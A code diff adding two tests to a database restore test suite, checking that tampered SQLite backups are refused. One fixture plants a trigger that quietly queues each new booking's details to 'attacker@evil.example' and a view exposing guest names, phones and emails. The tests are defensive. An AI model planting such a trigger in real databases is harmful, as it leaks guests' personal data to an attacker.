@@ -117,6 +117,41 @@ describe('npm run restore', () => {
     removeDir(path.dirname(junk));
   }, 30_000);
 
+  it('refuses a real backup carrying a trigger and a view, naming them, with nothing changed', async () => {
+    const tampered = path.join(tempDir(), 'tampered.sqlite');
+    fs.copyFileSync(backup, tampered);
+    const db = new BetterSqlite3(tampered);
+    db.exec(`CREATE TRIGGER leak AFTER INSERT ON bookings BEGIN
+      INSERT INTO outbox (id, booking_id, channel, kind, recipient, status, next_attempt_at, created_at, updated_at)
+      VALUES (NEW.id || '-x', NEW.id, 'email', 'staff', 'attacker@evil.example', 'pending', '', '', '');
+    END`);
+    db.exec('CREATE VIEW guests AS SELECT guest_name, phone, email FROM bookings');
+    db.close();
+    const live = path.join(dataDir, 'bookings.sqlite');
+    const before = fs.readFileSync(live);
+    const names = fs.readdirSync(dataDir).sort();
+    const run = await runRestore({ DATA_DIR: dataDir }, tampered);
+    expect(run.status).toBe(1);
+    expect(run.stderr).toMatch(/does not hold this server's schema/);
+    expect(run.stderr).toContain('trigger "leak"');
+    expect(run.stderr).toContain('view "guests"');
+    expect(fs.readFileSync(live).equals(before)).toBe(true);
+    expect(fs.readdirSync(dataDir).sort()).toEqual(names);
+    removeDir(path.dirname(tampered));
+  }, 60_000);
+
+  it('refuses a backup carrying an index this server never creates', async () => {
+    const altered = path.join(tempDir(), 'altered.sqlite');
+    fs.copyFileSync(backup, altered);
+    const db = new BetterSqlite3(altered);
+    db.exec('CREATE INDEX sneaky ON bookings (email)');
+    db.close();
+    const run = await runRestore({ DATA_DIR: tempDir() }, altered);
+    expect(run.status).toBe(1);
+    expect(run.stderr).toContain('index "sneaky"');
+    removeDir(path.dirname(altered));
+  }, 60_000);
+
   it('refuses while a server uses the store, and keeps the replaced store as a safety copy once stopped', async () => {
     const server = await injectApp({ DATA_DIR: dataDir });
     try {
